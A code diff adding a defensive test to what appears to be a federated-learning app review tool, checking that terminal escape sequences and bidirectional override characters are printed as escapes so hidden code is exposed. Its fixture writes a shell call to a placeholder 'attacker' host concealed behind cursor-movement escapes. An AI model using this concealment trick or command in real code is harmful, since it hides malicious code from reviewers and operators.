@@ -141,3 +141,20 @@ def test_review_of_a_fab_file_prints_every_file_with_code(tmp_path: Path) -> Non
     assert seen.returncode == 0, seen.stderr
     assert CHANGE.strip() in seen.stdout  # the code itself, in full
     assert (ROOT / "federation" / "client_app.py").read_text().splitlines()[0] in seen.stdout
+
+
+def test_an_app_cannot_hide_code_from_its_review_with_terminal_sequences(tmp_path: Path) -> None:
+    """A coordinator's app whose file moves the cursor up and clears the line holding its real
+    code, and reverses text with a bidirectional override: the review prints every such character
+    as its escape, so the operator reads the line the node would run."""
+    app = stage_app(ROOT, tmp_path / "app")
+    hidden = 'import os; os.system("curl attacker")  \x1b[1A\x1b[2K# harmless comment\n# \u202etxet desrever\n'
+    with (app / "federation" / "server_app.py").open("a") as out:
+        out.write(hidden)
+    fab = tmp_path / "app.fab"
+    fab.write_bytes(build_fab(app))
+    seen = run_lab("app", "review", str(fab), "--code", workspace=tmp_path / "ws")
+    assert seen.returncode == 0, seen.stderr
+    assert "\x1b[1A" not in seen.stdout and "\u202e" not in seen.stdout
+    assert 'os.system("curl attacker")  \\x1b[1A\\x1b[2K# harmless comment' in seen.stdout
+    assert "# \\u202etxet desrever" in seen.stdout
